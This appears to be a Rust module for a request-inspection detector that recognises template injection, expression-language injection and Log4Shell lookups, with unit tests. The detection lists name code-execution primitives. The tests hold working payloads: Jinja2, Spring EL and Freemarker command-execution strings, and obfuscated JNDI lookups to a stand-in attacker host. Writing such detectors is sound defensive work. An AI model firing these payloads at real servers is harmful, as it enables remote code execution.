//! Server-side template / expression injection detector (incl. Log4Shell).
//!
//! # What
//! Template and expression-language delimiters — Jinja2/Twig/Nunjucks/
//! Handlebars `{{ }}` and `{% %}`, Freemarker `<#…>` and `${}`, Velocity
//! `#set`, ERB `<%= %>`, Thymeleaf `__${}__`, Spring/JSP EL `${}` `#{}` `*{}`,
//! Smarty `{php}` — *with suspicious content inside*: object-graph walking
//! (`__class__`, `__mro__`, `__globals__`, `getClass()`), class loading
//! (`T(java.lang.Runtime)`, `Class.forName`), process execution (`exec`,
//! `popen`, `system`, `ProcessBuilder`), template-engine internals
//! (`_self.env`, `freemarker.template.utility.Execute`) or arithmetic probes
//! (`{{7*7}}`, `${7*7}`). Log4j lookups `${jndi:…}` are recognised after
//! undoing nested lookup obfuscation (`${${lower:j}ndi:`, `${${::-j}ndi:`,
//! `${env:X:-j}`).
//!
//! # Why
//! Template engines evaluate expressions with access to the host language;
//! rendering user input as a template is remote code execution. Plain
//! delimiters alone are common in developer posts (`{{ user.name }}`,
//! `${HOME}`), so content decides.
//!
//! # Gate
//! A Log4j lookup needs `${`; the directive literals are looked for only when
//! the value holds every byte class of one of them; an expression needs an
//! opener: `{` (`{{`, `{%`, `${`, `#{`, `*{`), `<%` or `@(`. A value that can
//! hold none of these is skipped.
//!
//! # Example
//! `{{ ''.__class__.__mro__[1].__subclasses__() }}` → `Ssti`.
//!
//! # References
//! CWE-1336, CWE-917, CWE-94; OWASP CRS REQUEST-934 (934100 Node.js,
//! 934110…), REQUEST-932 (932200), REQUEST-944-APPLICATION-ATTACK-JAVA
//! (944150 Log4Shell), Log4Shell CVE-2021-44228.

use std::sync::LazyLock;

use crate::gate::Literals;
use crate::{AttackClass, ByteClasses, Detection};

/// Longest expression body inspected after an opening delimiter.
const MAX_EXPRESSION: usize = 512;

/// Openers that always indicate an injection attempt.
static ALWAYS: LazyLock<Literals> = LazyLock::new(|| {
    Literals::any_case(&[
        "freemarker.template.utility",
        "{{<%[%'\"}}",
        "<#assign",
        "?new()",
        "#set($",
        "#set ($",
        "__${",
        "{php}",
        "{$smarty.",
        "{self::",
        "_self.env",
        "#{T(",
        "${T(",
        "*{T(",
        "${class.",
        "$class.inspect",
        "${\"freemarker",
        "{{config.",
        "{{ config.",
        "{{self.",
        "{{ self.",
        "<%= `",
        "<%=`",
        "<%= system",
        "<%=system",
        "<%= %x",
        "<%= io.popen",
        "<%= file.",
    ])
});

/// Suspicious content inside a template expression.
static SUSPICIOUS: LazyLock<Literals> = LazyLock::new(|| {
    Literals::any_case(&[
        "__class__",
        "__mro__",
        "__subclasses__",
        "__globals__",
        "__builtins__",
        "__init__",
        "__import__",
        "__getitem__",
        "__dict__",
        "getclass",
        "classloader",
        "forname(",
        "java.lang",
        "runtime",
        "processbuilder",
        "exec(",
        "popen",
        "system(",
        "eval(",
        "subprocess",
        "lipsum",
        "cycler",
        "joiner",
        "url_for",
        "get_flashed_messages",
        "request.application",
        "request[",
        "config.items",
        "|attr(",
        "constructor",
        "process.mainmodule",
        "require(",
        "child_process",
        "new java",
        "getruntime",
        "scriptengine",
        "invoke(",
        "getmethod",
        "newinstance",
        "applicationscope",
        "sessionscope",
        "facescontext",
        "springframework",
        "_self",
        "registerundefinedfiltercallback",
        "getfilter",
        "file.read",
        "io.popen",
        "readfile",
        "passthru",
        "('system')",
        "(\"system\")",
        "('exec')",
        "('passthru')",
        "system.diagnostics.process",
    ])
});

/// Two hex digits encoding an ASCII byte that is neither a letter nor a digit
/// (`22` is `"`, `20` a space): what follows `%` in URL-encoded text.
fn url_escaped_punctuation(digits: Option<&[u8]>) -> bool {
    let Some(&[high, low]) = digits else {
        return false;
    };
    let (Some(high), Some(low)) = (char::from(high).to_digit(16), char::from(low).to_digit(16))
    else {
        return false;
    };
    let byte = high * 16 + low;
    byte < 0x80 && !char::from_u32(byte).is_some_and(|c| c.is_ascii_alphanumeric())
}

/// Inspects `input` and returns a detection when it holds an attack of this class.
pub fn detect(input: &[u8]) -> Option<Detection> {
    detect_gated(input, ByteClasses::of(input))
}

/// The gate of [`detect_gated`] (see the module doc): false when no value of
/// `classes` can hold an attack of this class.
pub(crate) fn may_fire(classes: ByteClasses) -> bool {
    // A Log4Shell lookup opens with `${`, an expression.
    has_openers(classes) || ALWAYS.may_occur(classes)
}

/// Whether a value of `classes` may hold an expression opener: `{{`, `{%`, `${`, `#{`,
/// `*{`, `<%`, `@(`.
fn has_openers(classes: ByteClasses) -> bool {
    classes.has_any(classes!(b"{"))
        || classes.has_all(classes!(b"<%"))
        || classes.has_all(classes!(b"@("))
}

/// [`detect`] for an input whose byte classes are `classes` (or a subset of them).
pub fn detect_gated(input: &[u8], classes: ByteClasses) -> Option<Detection> {
    if !may_fire(classes) {
        return None;
    }
    if classes.has_all(classes!(b"${"))
        && let Some(detection) = log4j_lookup(input)
    {
        return Some(detection);
    }
    if let Some(found) = ALWAYS.find(input, classes) {
        return Some(Detection::new(
            AttackClass::Ssti,
            8,
            found.range(),
            "template directive",
        ));
    }
    if !has_openers(classes) {
        return None;
    }
    let mut i = 0usize;
    while i + 1 < input.len() {
        let Some(offset) = memchr::memchr3(b'{', b'<', b'@', &input[i..]) else {
            break;
        };
        let at = i + offset;
        i = at + 1;
        let (open_len, close): (usize, &[u8]) = match (input.get(at), input.get(at + 1)) {
            (Some(b'{'), Some(b'{')) => (2, b"}}"),
            // `{%22`, `{%20`: a URL-encoded quote or blank after a brace (a JSON
            // object in a raw cookie or query), not a statement tag, which
            // opens with a blank, `-`, `+` or a keyword.
            (Some(b'{'), Some(b'%')) if url_escaped_punctuation(input.get(at + 2..at + 4)) => {
                continue;
            }
            (Some(b'{'), Some(b'%')) => (2, b"%}"),
            (Some(b'{'), _)
                if at > 0 && matches!(input[at - 1], b'$' | b'#' | b'*' | b'@' | b'~') =>
            {
                (1, b"}")
            }
            (Some(b'<'), Some(b'%')) => (2, b"%>"),
            (Some(b'@'), Some(b'(')) => (2, b")"),
            _ => continue,
        };
        let body_start = at + open_len;
        let window = &input[body_start..(body_start + MAX_EXPRESSION).min(input.len())];
        let body = match memchr::memmem::find(window, close) {
            Some(end) => &window[..end],
            None => window,
        };
        // The body's classes are a subset of the input's.
        if SUSPICIOUS.is_match(body, classes) || is_arithmetic_probe(body) {
            let span = at.saturating_sub(1)..body_start + body.len();
            return Some(Detection::new(
                AttackClass::Ssti,
                7,
                span,
                "suspicious template expression",
            ));
        }
        // Continue after this expression: every byte is inspected a bounded number of times.
        i = i.max(body_start + body.len());
    }
    None
}

/// `7*7`, `7 * '7'`, `1337+1`: a bare arithmetic expression of two numbers.
fn is_arithmetic_probe(body: &[u8]) -> bool {
    let body = body.trim_ascii();
    let body = body.strip_prefix(b"=").unwrap_or(body).trim_ascii();
    let number = |text: &[u8]| {
        let text = text.trim_ascii();
        let text = text
            .strip_prefix(b"'")
            .and_then(|text| text.strip_suffix(b"'"))
            .unwrap_or(text);
        let text = text
            .strip_prefix(b"\"")
            .and_then(|text| text.strip_suffix(b"\""))
            .unwrap_or(text);
        !text.is_empty() && text.len() <= 12 && text.iter().all(u8::is_ascii_digit)
    };
    match body
        .iter()
        .position(|byte| matches!(byte, b'*' | b'+' | b'-' | b'/' | b'%'))
    {
        Some(op) if op > 0 => {
            let right = &body[op + 1..];
            let right = right.strip_prefix(b"*").unwrap_or(right);
            number(&body[..op]) && number(right)
        }
        _ => false,
    }
}

/// Log4j lookups: `${jndi:…}` (also obfuscated), and secret-leaking lookups
/// (`${env:…}`, `${sys:…}`, `${java:…}`) that are Log4j-specific.
fn log4j_lookup(input: &[u8]) -> Option<Detection> {
    let first = memchr::memmem::find(input, b"${")?;
    // Fast path: the plain spellings.
    for (needle, fingerprint) in [
        (b"${jndi:".as_slice(), "jndi lookup"),
        (b"${env:", "log4j env lookup"),
        (b"${sys:", "log4j sys lookup"),
        (b"${java:", "log4j java lookup"),
        (b"${ctx:", "log4j ctx lookup"),
        (b"${main:", "log4j main lookup"),
        (b"${base64:", "log4j base64 lookup"),
        (b"${k8s:", "log4j k8s lookup"),
        (b"${docker:", "log4j docker lookup"),
        (b"${spring:", "log4j spring lookup"),
        (b"${log4j:", "log4j lookup"),
    ] {
        if let Some(index) = find_ci(&input[first..], needle) {
            let start = first + index;
            return Some(Detection::new(
                AttackClass::Ssti,
                9,
                start..start + needle.len(),
                fingerprint,
            ));
        }
    }
    // Nested lookups: resolve `${lower:x}`, `${upper:x}`, `${anything:-x}`, `${::-x}` inside-out.
    memchr::memmem::find(&input[first + 2..], b"${")?;
    let window = &input[first..input.len().min(first + 4096)];
    let mut resolved = window.to_vec();
    for _ in 0..16 {
        let Some(next) = resolve_innermost(&resolved) else {
            break;
        };
        resolved = next;
    }
    find_ci(&resolved, b"${jndi:").map(|_| {
        Detection::new(
            AttackClass::Ssti,
            9,
            first..first + window.len(),
            "obfuscated jndi lookup",
        )
    })
}

/// Replaces every innermost `${…}` lookup with its value; None when there is nothing to resolve.
fn resolve_innermost(text: &[u8]) -> Option<Vec<u8>> {
    let mut out = Vec::with_capacity(text.len());
    let mut changed = false;
    let mut i = 0usize;
    while i < text.len() {
        if text[i] == b'$' && text.get(i + 1) == Some(&b'{') {
            let body_start = i + 2;
            let close = text[body_start..]
                .iter()
                .position(|&byte| byte == b'}' || byte == b'$');
            if let Some(close) = close
                && text[body_start + close] == b'}'
            {
                let body = &text[body_start..body_start + close];
                if let Some(value) = lookup_value(body) {
                    out.extend_from_slice(value);
                    i = body_start + close + 1;
                    changed = true;
                    continue;
                }
            }
        }
        out.push(text[i]);
        i += 1;
    }
    changed.then_some(out)
}

/// The value a Log4j lookup body evaluates to for obfuscation purposes.
fn lookup_value(body: &[u8]) -> Option<&[u8]> {
    if let Some(index) = memchr::memmem::find(body, b":-") {
        return Some(&body[index + 2..]);
    }
    for prefix in [b"lower:".as_slice(), b"upper:", b"date:"] {
        if crate::starts_with_ci(body, prefix) {
            let value = &body[prefix.len()..];
            // `${date:'j'}` formats a quoted literal.
            let value = value
                .strip_prefix(b"'")
                .and_then(|value| value.strip_suffix(b"'"))
                .unwrap_or(value);
            return Some(value);
        }
    }
    None
}

fn find_ci(haystack: &[u8], needle: &[u8]) -> Option<usize> {
    haystack
        .windows(needle.len())
        .position(|window| window.eq_ignore_ascii_case(needle))
}

#[cfg(test)]
mod tests {
    use super::detect;

    #[test]
    fn detects_template_injection() {
        for payload in [
            "{{7*7}}",
            "${7*7}",
            "#{7*7}",
            "<%= 7*7 %>",
            "{{''.__class__.__mro__[1].__subclasses__()}}",
            "{% import os %}{{ os.popen('id').read() }}",
            "${T(java.lang.Runtime).getRuntime().exec('id')}",
            "<#assign ex=\"freemarker.template.utility.Execute\"?new()>${ex(\"id\")}",
            "#set($x=$class.inspect(\"java.lang.Runtime\"))",
            "__${T(java.lang.Runtime).getRuntime().exec('id')}__::.x",
            "${jndi:ldap://attacker.example/a}",
            "${${lower:j}ndi:ldap://x/a}",
            "${${::-j}${::-n}${::-d}${::-i}:rmi://x/a}",
            "${${env:NaN:-j}ndi${env:NaN:-:}ldap://x/}",
            "{{constructor.constructor('alert(1)')()}}",
        ] {
            assert!(detect(payload.as_bytes()).is_some(), "missed {payload:?}");
        }
    }

    #[test]
    fn benign_templates_are_quiet() {
        for text in [
            "Hello {{ user.name }}",
            "{% for item in items %}{{ item }}{% endfor %}",
            "echo ${HOME}/bin",
            "const s = `${a} and ${b * c}`;",
            "price: ${price}",
            "#{first_name} in ruby",
            "<%= @user.email %>",
            "I scored 7*7 points",
            "q={%22id%22:%2014%2C%20%22tags%22:%20[%22echo%22]%2C%20%22filter%22:%20{%22q%22:%20%22select%22}}",
        ] {
            assert_eq!(detect(text.as_bytes()), None, "false positive on {text:?}");
        }
    }
}
